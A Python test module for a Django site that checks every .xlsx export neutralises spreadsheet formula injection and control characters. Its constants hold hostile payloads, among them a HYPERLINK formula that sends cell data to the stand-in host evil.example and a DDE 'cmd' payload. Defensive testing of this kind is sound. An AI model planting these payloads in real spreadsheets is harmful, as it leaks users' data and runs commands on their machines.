"""Issue 10, findings 3 (formula injection) and 7 (control characters in stored text):
every .xlsx export of the site, asked for by a user in scope while a unit name, a record's
note, its problem type and an indicator name hold a formula and a control character,
answers 200 with a workbook that has no formula and shows the texts as text (the
apostrophe in front, the control character gone)."""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from qingfeng.accounts.roles import Role
from qingfeng.framework.models import Indicator
from qingfeng.org.models import Unit
from qingfeng.records.excel import build_template
from qingfeng.records.models import ProblemType, Record
from qingfeng.rectification.services import problem_create
from tests.conftest import client_for, make_user
from tests.dashboard.conftest import Results

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
UNIT_NAME = HYPERLINK + "\u0001"
NOTE = "\u0001" + HYPERLINK
PROBLEM_TYPE = "+cmd|' /C calc'!A0\u0001"
INDICATOR_NAME = "@SUM(1+1)\u0001"
SAFE = {
    UNIT_NAME: "'" + HYPERLINK,
    NOTE: "'" + HYPERLINK,
    PROBLEM_TYPE: "'+cmd|' /C calc'!A0",
    INDICATOR_NAME: "'@SUM(1+1)",
}


@pytest.fixture
def hostile(results: Results) -> Results:
    """The analysis fixture with hostile stored text in county A."""
    Unit.objects.filter(pk=results.org.unit_a1.pk).update(name=UNIT_NAME)
    Record.objects.filter(note="公车私用").update(note=NOTE, problem_type=PROBLEM_TYPE)
    Record.objects.filter(note="违规吃喝").update(note=NOTE)
    Indicator.objects.filter(version=results.scored.version, code="A1").update(name=INDICATOR_NAME)
    return results


def _dashboard(results: Results) -> dict[str, list[str]]:
    """Every analysis export by URL name, with the URLs asked for."""
    unit = results.org.unit_a1.pk

    def url(name: str, *args: object, query: str = "") -> str:
        return reverse(f"dashboard:{name}", args=args) + query

    return {
        "ranking_xlsx": [url("ranking_xlsx", "T", "2025Q1")],
        "heatmap_xlsx": [url("heatmap_xlsx", "T", "2025Q1")],
        "warnings_xlsx": [url("warnings_xlsx", "T", "2025Q1")],
        "results_xlsx": [url("results_xlsx", "T", "2025Q1")],
        "problems_xlsx": [url("problems_xlsx", "T", "2025Q1")],
        "problem_records_xlsx": [url("problem_records_xlsx", "T", "2025Q1")],
        "portrait_xlsx": [
            url("portrait_xlsx", "T", "2025Q1", unit),
            url("portrait_xlsx", "T", "2025Q2", unit),
        ],
        "compare_indicator_xlsx": [url("compare_indicator_xlsx", "T", "2025Q1", query="?node=A1")],
        "compare_trend_xlsx": [url("compare_trend_xlsx", "T", query="?node=A1")],
        "compare_yoy_xlsx": [url("compare_yoy_xlsx", "T", "2025Q1")],
        "search_xlsx": [
            url("search_xlsx", query="?q=HYPERLINK"),
            url("search_xlsx", query="?q=%01"),
            url("search_xlsx", query="?q=%01HYPER"),
        ],
    }


def _xlsx_url_names() -> set[str]:
    """The names of every URL of the site whose path ends in .xlsx."""
    names: set[str] = set()

    def walk(patterns: list[Any], namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".xlsx"):
                names.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns, "")
    return names


def _cells(response: Any) -> list[Any]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_safe(cells: list[Any]) -> set[str]:
    """No formula and no raw hostile text; the safe texts found."""
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells if isinstance(c.value, str)}
    for value in values:
        assert not value.startswith(("=", "+", "-", "@")), value
        assert "\u0001" not in value
    found = set()
    for safe in SAFE.values():
        if any(safe in value for value in values):
            found.add(safe)
    return found


def test_finding_3_7_every_analysis_export_is_tested() -> None:
    tested = {f"dashboard:{name}" for name in _dashboard_names()}
    dashboard = {name for name in _xlsx_url_names() if name.startswith("dashboard:")}
    assert dashboard == tested


def _dashboard_names() -> list[str]:
    return [
        "ranking_xlsx",
        "heatmap_xlsx",
        "warnings_xlsx",
        "results_xlsx",
        "problems_xlsx",
        "problem_records_xlsx",
        "portrait_xlsx",
        "compare_indicator_xlsx",
        "compare_trend_xlsx",
        "compare_yoy_xlsx",
        "search_xlsx",
    ]


def test_finding_3_7_analysis_exports_answer_with_text_not_formulas(hostile: Results) -> None:
    client = client_for(hostile.analyst)
    urls = _dashboard(hostile)
    assert sorted(urls) == sorted(_dashboard_names())
    found: dict[str, set[str]] = {}
    for asked in urls.values():
        for url in asked:
            found[url] = _assert_safe(_cells(client.get(url)))
    by_name = {name: set().union(*(found[u] for u in asked)) for name, asked in urls.items()}
    # The hostile texts are there, as text with the apostrophe in front.
    unit, note, kind = SAFE[UNIT_NAME], SAFE[NOTE], SAFE[PROBLEM_TYPE]
    assert unit in by_name["ranking_xlsx"]
    assert unit in by_name["results_xlsx"]
    assert {unit, note} <= by_name["portrait_xlsx"]
    assert {unit, note, kind} <= by_name["problem_records_xlsx"]
    assert kind in by_name["problems_xlsx"]
    assert unit in by_name["problems_xlsx"]
    assert unit in by_name["compare_indicator_xlsx"]
    assert unit in by_name["compare_trend_xlsx"]
    assert {unit, note} <= found[urls["search_xlsx"][0]]


def test_finding_7_a_control_character_in_the_search_is_no_error(hostile: Results) -> None:
    client = client_for(hostile.analyst)
    for query in ("%01", "%00", "%01HYPER", "%0B%0C"):
        response = client.get(reverse("dashboard:search_xlsx") + f"?q={query}")
        if query == "%00":  # refused before any view: core.middleware.NulCharacterMiddleware
            assert response.status_code == 400
            continue
        assert response.status_code in (200, 302), (query, response.status_code)
        if response.status_code == 200:
            _assert_safe(_cells(response))
        else:  # an invalid search goes back to the page, which says why
            assert client.get(response["Location"]).status_code == 200


def test_finding_3_7_interchange_exports_keep_text_and_read_back(hostile: Results) -> None:
    admin = make_user("admin_hostile", Role.COMMISSION_ADMIN, region=hostile.org.county_a)
    client = client_for(admin)
    org = client.get(reverse("org:export", args=["xlsx"]))
    assert SAFE[UNIT_NAME] in _assert_safe(_cells(org))
    version = hostile.scored.version.pk
    framework = client.get(reverse("framework:version_export", args=[version, "xlsx"]))
    assert SAFE[INDICATOR_NAME] in _assert_safe(_cells(framework))


def test_finding_3_7_the_records_template_keeps_text(hostile: Results) -> None:
    clerk = make_user("clerk_hostile", Role.STATION_CLERK, station=hostile.org.station_a)
    ProblemType.objects.create(name=PROBLEM_TYPE)
    data = build_template(
        framework=hostile.scored.framework,
        station=hostile.org.station_a,
        user=clerk,
        today=datetime.date(2025, 3, 1),
    )
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert SAFE[PROBLEM_TYPE] in _assert_safe(cells)


def test_finding_3_7_the_problem_ledger_export_and_template_keep_text(hostile: Results) -> None:
    admin = make_user("admin_hostile", Role.COMMISSION_ADMIN, region=hostile.org.county_a)
    problem_create(
        actor=None,
        unit=hostile.org.unit_a1,
        source="audit",
        problem_type=PROBLEM_TYPE,
        description=NOTE,
        responsible_person=INDICATOR_NAME,
        due=datetime.date(2026, 9, 30),
    )
    client = client_for(admin)
    found = _assert_safe(_cells(client.get(reverse("rectification:export"))))
    assert {SAFE[UNIT_NAME], SAFE[NOTE], SAFE[PROBLEM_TYPE], SAFE[INDICATOR_NAME]} <= found
    _assert_safe(_cells(client.get(reverse("rectification:import_template"))))


# The problem ledger's .xlsx URLs, tested just above.
LEDGER_XLSX = {"rectification:export", "rectification:import_template"}


def test_finding_3_7_every_xlsx_url_of_the_site_is_covered() -> None:
    # The other .xlsx downloads are the interchange exports (``export.<fmt>``), the
    # records template and the records errors workbook, all tested in this module or in
    # tests/lib/test_cells.py; a new .xlsx URL must be added here.
    # The warning register's export: tests/monitoring/test_register_pages.py; the
    # accountability statistics: tests/duties/test_lists_checks.py; the leader's file:
    # tests/duties/test_file_exports.py (a hostile fulfilment content); a democratic
    # evaluation's results: tests/surveys/test_appraisal_files.py (a hostile leader); a
    # unit's survey feedback: tests/surveys/test_feedback_page.py (hostile written answers).
    tested_elsewhere = {
        "monitoring:register_xlsx",
        "duties:lists_stats_xlsx",
        "duties:leader_file_xlsx",
        "surveys:appraisal_results_xlsx",
        "surveys:campaign_feedback_xlsx",
    }
    # The cross evaluations' results and blank tables: tests/surveys/test_cross_pages.py.
    tested_elsewhere |= {"surveys:cross_results_xlsx", "surveys:cross_rater_blank"}
    # The questionnaires' blank template: a fixed workbook holding no stored text (a
    # questionnaire's own export is tested with a hostile question in
    # tests/surveys/test_questionnaire_import.py).
    tested_elsewhere |= {"surveys:questionnaire_template"}
    others = {name for name in _xlsx_url_names() if not name.startswith("dashboard:")}
    assert others - LEDGER_XLSX - tested_elsewhere == set()
